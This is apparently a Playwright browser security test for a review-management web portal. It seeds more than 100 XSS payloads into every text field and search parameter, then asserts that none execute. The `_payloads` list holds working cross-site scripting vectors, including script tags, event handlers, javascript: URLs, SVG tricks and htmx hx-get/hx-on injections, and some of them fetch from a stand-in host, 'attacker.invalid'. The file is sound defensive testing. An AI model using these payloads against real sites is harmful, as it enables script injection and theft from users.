"""Test 5: XSS in the real browser.

More than 100 payloads (script tags, event handlers, javascript: URLs, SVG, attribute
breakouts, and hx-get / hx-on / data-hx-* injections) go into every free-text field
(agency, partnership and person names, review title, the people's names, aliases,
addresses and relationships, trawl instructions, a return's summary, a request for more
time; the family-contact log's people, entries, history and reasons; media inquiries'
outlet, journalist, question, draft and sent responses, notes, recipients and the panel
chair; publication's hold reason, file names and where a report remains available) and
into the search and filter parameters; then every page showing them is opened as the
roles that see them, and their htmx swaps are triggered (searches typed, the dashboard's
poll, the family page's forms opened and posted, the media list filtered and a row's
approval posted, the partnership overview filtered). The pass figure: no payload runs (each would
call a binding), no request leaves for the attacker's host, and no CSP violation or
console error (the page watch in conftest.py fails the test on any).

Runs last among the browser tests (file order): its records are added to the shared
demo database under their own partnership and inactive agencies.
"""

from __future__ import annotations

import datetime as dt
import re
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect

from portal.accounts.models import Role
from portal.demo.data import DEMO_PASSWORD
from tests.browser.conftest import BROWSER_TOTP_SECRET, demo_user

pytestmark = pytest.mark.browser

ATTACKER = "attacker.invalid"


def _payloads() -> list[str]:
    """Each payload names itself (N), calls __xss(N) if it runs, and fetches ATTACKER/N."""
    shapes = [
        "<script>__xss({n})</script>",
        "<script src=//{a}/{n}></script>",
        "<img src=x onerror=__xss({n})>",
        "<img src=//{a}/{n}>",
        "<svg onload=__xss({n})>",
        "<svg><script>__xss({n})</script></svg>",
        "<svg><a xlink:href=javascript:__xss({n})><text>x</text></a></svg>",
        "<body onload=__xss({n})>",
        "<iframe src=javascript:__xss({n})>",
        "<iframe srcdoc='<script>parent.__xss({n})</script>'>",
        "<a href=javascript:__xss({n})>link {n}</a>",
        '<a href="jav&#x09;ascript:__xss({n})">tab {n}</a>',
        "<details open ontoggle=__xss({n})>",
        "<input autofocus onfocus=__xss({n})>",
        "<video><source onerror=__xss({n})></video>",
        "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
        '"><script>__xss({n})</script>',
        "'><img src=x onerror=__xss({n})>",
        '" onmouseover="__xss({n})" x="',
        "' autofocus onfocus='__xss({n})' x='",
        "</textarea><script>__xss({n})</script>",
        "</title><script>__xss({n})</script>",
        "<style>@import '//{a}/{n}';</style>",
        "<link rel=stylesheet href=//{a}/{n}>",
        "<object data=//{a}/{n}></object>",
        "<embed src=//{a}/{n}>",
        "<form action=//{a}/{n}><button>go {n}</button></form>",
        "<meta http-equiv=refresh content='0;url=//{a}/{n}'>",
        "<base href=//{a}/{n}/>",
        "<div hx-get=//{a}/{n} hx-trigger=load>h{n}</div>",
        "<div data-hx-get=//{a}/{n} data-hx-trigger=load>d{n}</div>",
        "<div hx-on::load=__xss({n})>o{n}</div>",
        "<button hx-on:click=__xss({n}) id=b{n}>c{n}</button>",
        "<div hx-get=/ hx-trigger=load hx-target=body hx-swap=innerHTML hx-vals='js:{{a:__xss({n})}}'>v{n}</div>",
        "<div hx-headers='js:{{\"X\":__xss({n})}}' hx-get=/ hx-trigger=load>e{n}</div>",
        "<template><img src=x onerror=__xss({n})></template>",
        "{{{{7*7}}}}<{n}>${{__xss({n})}}",
        "javascript:__xss({n})",
        "<scr<script>ipt>__xss({n})</scr</script>ipt>",
        '<IMG SRC="jav\tascript:__xss({n});">',
        "<svg/onload=__xss({n})//",
        "%3Cscript%3E__xss({n})%3C/script%3E",
        "&lt;script&gt;__xss({n})&lt;/script&gt;",
        '<noscript><p title="</noscript><img src=x onerror=__xss({n})>">',
        "<a href=//{a}/{n} ping=//{a}/{n}>p{n}</a>",
    ]
    payloads = []
    for round_ in range(3):
        for shape in shapes:
            n = len(payloads)
            text = shape.format(n=n, a=ATTACKER)
            payloads.append(text.upper().replace("__XSS", "__xss") if round_ == 1 else text)
    return payloads[: max(110, len(shapes) * 2)]


PAYLOADS = _payloads()


@pytest.fixture(scope="module")
def xss_world(live_app):
    """One review, its people, agencies, a trawl, an answer and a request for more time, all payloads."""
    from portal.accounts.models import User
    from portal.accounts.passwords import hash_password
    from portal.accounts.two_factor import seal
    from portal.clock import utcnow
    from portal.extensions import db
    from portal.organisations.models import Agency, Partnership, Sector
    from portal.reviews.models import Review, ReviewKind, Subject, SubjectRole
    from portal.trawls import service
    from portal.trawls.models import ReceivedBy, ReturnKind, TrawlPurpose, TrawlRequest

    if db.database.obj is not live_app.config["DATABASE"]:
        db.database.initialize(live_app.config["DATABASE"])
    with live_app.test_request_context():
        officer = User.get(User.email == demo_user(Role.REVIEW_OFFICER).email)
        partnership = Partnership.create(name=f"XSS {PAYLOADS[0]}"[:120])
        agencies = [
            Agency.create(
                name=f"{n:03d} {p}"[:160], sector=Sector.OTHER, contact_email=f"xss{n}@agency.example"
            )
            for n, p in enumerate(PAYLOADS)
        ]
        review = Review.create(
            reference="DHR-2026-XSS",
            kind=ReviewKind.DHR,
            title=PAYLOADS[16][:80],
            partnership=partnership,
            review_officer=officer,
            date_notified=dt.date(2026, 3, 1),
        )
        for start in range(0, len(PAYLOADS), 4):
            chunk = (PAYLOADS[start : start + 4] + PAYLOADS[:4])[:4]
            Subject.create(
                review=review,
                role=SubjectRole.DECEASED if start == 0 else SubjectRole.HOUSEHOLD_MEMBER,
                full_name=chunk[0][:120],
                aliases=chunk[1],
                address_at_time=chunk[2],
                previous_addresses="\n".join(chunk),
                relationship_to_deceased=chunk[3][:120],
            )
        everything = "\n\n".join(PAYLOADS)
        service.issue_trawl(
            review, [a.id for a in agencies], officer, purpose=TrawlPurpose.INITIAL, instructions=everything
        )
        first, second = (TrawlRequest.get(TrawlRequest.agency == a) for a in agencies[:2])
        service.request_extension(
            second, second.version, everything, second.due_date + dt.timedelta(days=9), officer
        )
        service.submit_return(
            first,
            first.version,
            ReturnKind.INVOLVEMENT,
            {
                "summary": everything,
                "contact_from": dt.date(2025, 1, 4),
                "contact_to": dt.date(2025, 2, 9),
                "contact_outside_scope": True,
                "contact_outside_scope_note": everything,
                "records_secured": True,
                "personal_interest": True,
                "personal_interest_note": everything,
            },
            officer,
            received_by=ReceivedBy.EMAIL,
        )
        lead = User.create(
            email="xss.lead@northvale.example",
            full_name=PAYLOADS[2][:120],
            role=Role.AGENCY_LEAD,
            agency=agencies[1],
            password_hash=hash_password(DEMO_PASSWORD),
            totp_secret=seal(BROWSER_TOTP_SECRET),
            totp_enrolled_at=utcnow(),
        )
        Agency.update(active=False).where(Agency.id.in_([a.id for a in agencies])).execute()
    return {
        "review": review.id,
        "requests": (first.id, second.id),
        "lead": lead.email,
        "subject": Subject.select().where(Subject.review == review).first().id,
    }


class Trap:
    """What a payload would do if it ran: call __xss(N), or reach the attacker's host."""

    def __init__(self, session):
        self.ran: list = []
        self.requests: list[str] = []
        session.context.expose_function("__xss", lambda n=None: self.ran.append(n))
        session.context.on("request", self._request)

    def _request(self, request) -> None:
        # Our own URLs may carry a payload in their query string; only the host counts.
        parts = urlsplit(request.url)
        if parts.scheme != "data" and parts.hostname != "127.0.0.1":
            self.requests.append(request.url)

    def check(self) -> None:
        assert self.ran == [], f"payloads ran: {self.ran}"
        assert self.requests == [], f"requests left the site: {self.requests}"


VISITED: set[str] = set()  # every page opened, for the pass figure


def _visit(session, trap, path: str, htmx_search: str | None = None) -> None:
    VISITED.add(path.split("?")[0] + ("?…" if "?" in path else ""))
    response = session.goto(path)
    assert response is not None and response.status in (200, 404), f"{path}: {response and response.status}"
    if htmx_search:  # type into the page's search box: htmx swaps the results in
        box = session.page.locator("#q")
        for payload in PAYLOADS[:: len(PAYLOADS) // 4]:
            box.fill(payload)
            session.page.wait_for_timeout(450)
    session.page.wait_for_timeout(150)
    session.watch.collect(session.page)


def test_no_payload_runs_anywhere(open_session, xss_world):
    review, (answered, extended), subject = xss_world["review"], xss_world["requests"], xss_world["subject"]
    officer = open_session()
    trap = Trap(officer)
    officer.sign_in(demo_user(Role.REVIEW_OFFICER).email, DEMO_PASSWORD)
    officer.page.evaluate("() => __xss(-1)")  # the trap works: a payload that ran would be heard
    officer.page.wait_for_timeout(100)
    assert trap.ran == [-1]
    trap.ran.clear()
    for path in (
        f"/reviews/{review}",
        f"/reviews/{review}/edit",
        f"/reviews/{review}/subjects/{subject}/edit",
        f"/reviews/{review}/trawls/new",
        f"/trawl-requests/{answered}",
        f"/trawl-requests/{extended}",
        f"/trawl-requests/{answered}/letter",
        f"/reviews/{review}/no-record-of-contact",
        "/returns?all=1",
    ):
        _visit(officer, trap, path)
    _visit(officer, trap, "/reviews", htmx_search="q")
    # The dashboard polls every second in the tests: let it swap its rows in twice.
    _visit(officer, trap, f"/reviews/{review}/returns")
    officer.page.wait_for_timeout(2500)
    _visit(officer, trap, f"/reviews/{review}")
    officer.page.get_by_role("button", name="Add a person").click()
    expect(officer.page.locator("#subject-new")).to_be_visible()
    for payload in PAYLOADS[:3]:
        _visit(officer, trap, f"/reviews?q={quote(payload)}&kind={quote(payload)}")
        _visit(officer, trap, f"/reviews/{review}/returns?status={quote(payload)}&sector={quote(payload)}")
    trap.check()

    admin = open_session()
    admin_trap = Trap(admin)
    admin.sign_in(demo_user(Role.ADMIN).email, DEMO_PASSWORD)
    for path in ("/admin/partnerships", "/admin/audit-log", "/admin/outbox"):
        _visit(admin, admin_trap, path)
    _visit(admin, admin_trap, "/admin/agencies?sector=other", htmx_search="q")
    _visit(admin, admin_trap, "/admin/users", htmx_search="q")
    admin_trap.check()

    lead = open_session()
    lead_trap = Trap(lead)
    lead.sign_in(xss_world["lead"], DEMO_PASSWORD)
    for suffix in ("", "/letter", "/involvement", "/nil-return", "/extension"):
        _visit(lead, lead_trap, f"/inbox/{extended}{suffix}")
    _visit(lead, lead_trap, "/inbox")
    lead_trap.check()
    assert len(PAYLOADS) >= 100
    print(f"{len(PAYLOADS)} payloads, {len(VISITED)} pages visited (people, trawls, admin)")


def _chunks(size: int) -> list[list[str]]:
    return [
        (PAYLOADS[start : start + size] + PAYLOADS[:size])[:size] for start in range(0, len(PAYLOADS), size)
    ]


@pytest.fixture(scope="module")
def later_world(live_app, xss_world):
    """The family-contact log, media inquiries and publication of the XSS review, all payloads."""
    from portal.accounts.models import User
    from portal.accounts.passwords import hash_password
    from portal.accounts.two_factor import seal
    from portal.clock import utcnow
    from portal.family_contact.models import (
        ContactMethod,
        ContactPurpose,
        ContactRoute,
        FamilyContactEntry,
        FamilyContactEntryMember,
        FamilyContactEntryVersion,
        FamilyMember,
        Participation,
    )
    from portal.lifecycle.stages import Stage
    from portal.media_inquiries.models import (
        InquiryEvent,
        InquiryRecipient,
        InquiryStatus,
        MediaInquiry,
        RecipientKind,
        ReviewMediaContact,
        Topic,
    )
    from portal.publication import storage
    from portal.publication.models import DocumentKind, PublishedDocument
    from portal.reviews.models import Review
    from tests.publication.builders import pdf_bytes

    everything = "\n\n".join(PAYLOADS)
    review = Review.get_by_id(xss_world["review"])
    officer = review.review_officer
    today = dt.date.today()
    with live_app.test_request_context():
        members = []
        for chunk in _chunks(6):
            members.append(
                FamilyMember.create(
                    review=review,
                    referred_to_as=chunk[0][:120],
                    initials="X.",
                    relationship=chunk[1][:120],
                    participation=Participation.ENGAGED,
                    preferred_route=ContactRoute.ADVOCATE,
                    route_details=chunk[2][:200],
                    language=chunk[3][:80],
                    interpreter_needed=True,
                    safety_concern=True,
                    safety_note=chunk[4],
                    notes=chunk[5],
                    created_by=officer,
                )
            )
        entries = []
        for number, chunk in enumerate(_chunks(3)[:8]):
            entry = FamilyContactEntry.create(
                review=review,
                contacted_at=dt.datetime(2026, 3, 1 + number, 10, 0),
                made_by=chunk[0][:120],
                route=ContactRoute.ADVOCATE,
                method=ContactMethod.PHONE,
                purpose=ContactPurpose.PROGRESS_UPDATE,
                summary=chunk[1] if number else everything,
                outcome=chunk[2],
                recorded_by=officer,
                entered_in_error=number == 1,
                error_reason=everything if number == 1 else "",
                error_marked_by=officer if number == 1 else None,
                version=2,
            )
            FamilyContactEntryMember.create(entry=entry, member=members[number % len(members)])
            entries.append(entry)
        old = entries[0].snapshot(members[:2]) | {
            "summary": everything,
            "outcome": everything,
            "made_by": PAYLOADS[5],
        }
        FamilyContactEntryVersion.create(
            entry=entries[0],
            version=1,
            values=old,
            changed=["members", "made_by", "summary", "outcome"],
            changed_by=officer,
        )

        partnership = review.partnership
        team = User.create(
            email="xss.team@northvale.example",
            full_name=PAYLOADS[6][:120],
            role=Role.CSP_TEAM,
            partnership=partnership,
            password_hash=hash_password(DEMO_PASSWORD),
            totp_secret=seal(BROWSER_TOTP_SECRET),
            totp_enrolled_at=utcnow(),
        )
        lead = User.get(User.email == xss_world["lead"])
        ReviewMediaContact.create(
            review=review, panel_chair_name=PAYLOADS[7][:120], panel_chair_email="chair@panel.example"
        )
        now = utcnow().replace(microsecond=0)
        inquiries = {}
        for number, status in enumerate(
            (
                InquiryStatus.ROUTED,
                InquiryStatus.RESPONSE_DRAFTED,
                InquiryStatus.RESPONDED,
                InquiryStatus.CLOSED_NO_COMMENT,
            )
        ):
            chunk = _chunks(6)[number]
            inquiry = MediaInquiry.create(
                received_at=now - dt.timedelta(hours=3),
                received_by_agency=lead.agency_id,
                received_by_name=chunk[0][:120],
                outlet=chunk[1][:160],
                journalist_name=chunk[2][:120],
                journalist_email=chunk[3][:254],
                journalist_phone=chunk[4][:40],
                question=everything,
                deadline_at=now + dt.timedelta(hours=2 + 30 * number),
                review=review,
                topic=Topic.REVIEW_IN_PROGRESS,
                logged_by=lead,
                logged_by_agency=lead.agency_id,
                status=status,
                owner=officer,
                routed_at=now,
                draft_response=everything if number else "",
                drafted_by=officer if number else None,
                drafted_at=now if number else None,
                approved_by=team if number == 2 else None,
                approved_at=now if number == 2 else None,
                approval_note=everything if number == 2 else "",
                sent_response=everything if number == 2 else "",
                responded_by=officer if number == 2 else None,
                responded_at=now if number == 2 else None,
                close_reason=everything if number == 3 else "",
                closed_by=officer if number == 3 else None,
                closed_at=now if number == 3 else None,
            )
            InquiryRecipient.create(
                inquiry=inquiry,
                kind=RecipientKind.PANEL_CHAIR,
                email="chair@panel.example",
                name=chunk[5][:160],
            )
            InquiryEvent.create(
                inquiry=inquiry, actor=lead, from_status=None, to_status=InquiryStatus.RECEIVED
            )
            InquiryEvent.create(
                inquiry=inquiry,
                actor=officer,
                from_status=InquiryStatus.RECEIVED,
                to_status=status,
                note=everything,
            )
            inquiries[status] = inquiry.id

        documents = []
        for kind in DocumentKind:
            data = pdf_bytes("Anonymised XSS report")
            documents.append(
                PublishedDocument.create(
                    review=review,
                    kind=kind,
                    stored_name=storage.save(data, live_app.config),
                    original_name=PAYLOADS[8 + len(documents)][:120],
                    size_bytes=len(data),
                    sha256="0" * 64,
                    uploaded_by=officer,
                ).id
            )
        Review.update(
            stage=Stage.PUBLISHED,
            cleared_on=today - dt.timedelta(days=60),
            publication_planned_on=today - dt.timedelta(days=40),
            published_on=today - dt.timedelta(days=30),
            removal_due_on=today + dt.timedelta(days=335),
            held_until=today + dt.timedelta(days=400),
            hold_reason=everything,
            report_available_at=everything,
            lead_press_office=lead.agency_id,
        ).where(Review.id == review.id).execute()
    return {
        "members": [m.id for m in members],
        "entries": [e.id for e in entries],
        "inquiries": inquiries,
        "documents": documents,
        "team": team.email,
    }


def test_no_payload_runs_in_family_media_or_publication(open_session, xss_world, later_world):
    review, inquiries = xss_world["review"], later_world["inquiries"]
    member, (entry, in_error, *_) = later_world["members"][0], later_world["entries"]
    drafted, responded = inquiries["response_drafted"], inquiries["responded"]
    family = f"/reviews/{review}/family"

    officer = open_session()
    trap = Trap(officer)
    officer.sign_in(demo_user(Role.REVIEW_OFFICER).email, DEMO_PASSWORD)
    for path in (
        family,
        f"{family}/record",
        f"{family}/entries/{entry}/history",
        f"{family}/entries/{entry}/edit",
        f"{family}/entries/{entry}/entered-in-error",
        f"{family}/entries/{in_error}/history",
        f"{family}/members/{member}/edit",
        "/media-inquiries?status=all",
        "/media-inquiries/new",
        f"/media-inquiries/{inquiries['routed']}/reassign",
        f"/media-inquiries/reviews/{review}/contact",
        f"/reviews/{review}/publication",
        f"/reviews/{review}/lifecycle",
        f"/reviews/{review}",
        "/published",
        *(f"/media-inquiries/{inquiry}" for inquiry in inquiries.values()),
    ):
        _visit(officer, trap, path)
    # The family page's htmx: open the form to add a person, then post it full of payloads.
    _visit(officer, trap, family)
    officer.page.get_by_role("button", name="Add a family member or key contact").click()
    form = officer.page.locator("#member-new")
    expect(form).to_be_visible()
    form.get_by_label("How they are referred to in the log").fill(PAYLOADS[0][:120])
    form.get_by_label("Relationship to the deceased").fill(PAYLOADS[10][:120])
    form.get_by_label("Other notes (optional)").fill(PAYLOADS[20])
    form.get_by_label("Through an advocate").check()
    form.get_by_label("Taking part", exact=True).check()
    form.get_by_role("button", name="Save person").click()
    expect(officer.page.locator("#member-new")).to_have_count(0)
    officer.page.get_by_role("button", name="Add a contact to the log").click()
    expect(officer.page.locator("#entry-new")).to_be_visible()
    officer.page.wait_for_timeout(300)
    for payload in PAYLOADS[:3]:
        quoted = quote(payload)
        _visit(
            officer,
            trap,
            f"/media-inquiries?status={quoted}&reference={quoted}&agency={quoted}&page={quoted}",
        )
        _visit(officer, trap, f"/media-inquiries?review={quoted}")
        _visit(officer, trap, f"/media-inquiries/reviews/{review}/contact?next={quoted}")
        _visit(officer, trap, f"/published?page={quoted}")
        _visit(officer, trap, f"{family}?next={quoted}")
    _visit(officer, trap, f"/media-inquiries/reviews/{review}/contact?next={quote('javascript:__xss(-2)')}")
    assert officer.page.locator('a[href^="javascript" i], a[href^="//"]').count() == 0
    trap.check()

    team = open_session()
    team_trap = Trap(team)
    team.sign_in(later_world["team"], DEMO_PASSWORD)
    for path in (
        f"/media-inquiries/{drafted}",
        f"/media-inquiries/{responded}",
        f"/reviews/{review}/publication",
        f"/reviews/{review}/publication/hold",
        f"/reviews/{review}/publication/remove",
    ):
        _visit(team, team_trap, path)
    # The media list: filter it (htmx swaps the results), then approve a row inline.
    _visit(team, team_trap, "/media-inquiries")
    team.page.locator("#filter-status").select_option("all")
    expect(team.page).to_have_url(re.compile(r"status=all"))  # swapped in: click the new row, not the old
    expect(team.page.locator(f"#approve-{drafted}")).to_be_visible()
    team.page.locator(f"#approve-{drafted}").click()
    expect(team.page.locator(f"#approve-{drafted}")).to_have_count(0)
    team.page.wait_for_timeout(300)
    _visit(team, team_trap, "/partnership/reviews")
    team.page.locator("select").first.select_option(index=1)
    team.page.wait_for_timeout(600)
    for payload in PAYLOADS[:3]:
        quoted = quote(payload)
        _visit(team, team_trap, f"/partnership/reviews?stage={quoted}&removal={quoted}&page={quoted}")
    team.watch.collect(team.page)
    team_trap.check()

    lead = open_session()
    lead_trap = Trap(lead)
    lead.sign_in(xss_world["lead"], DEMO_PASSWORD)
    for path in (
        "/media-inquiries?status=all",
        "/media-inquiries/new",
        *(f"/media-inquiries/{i}" for i in inquiries.values()),
    ):
        _visit(lead, lead_trap, path)
    lead_trap.check()

    anonymous = open_session()
    public_trap = Trap(anonymous)
    _visit(anonymous, public_trap, "/published")
    public_trap.check()
    print(f"{len(PAYLOADS)} payloads, {len(VISITED)} pages visited")
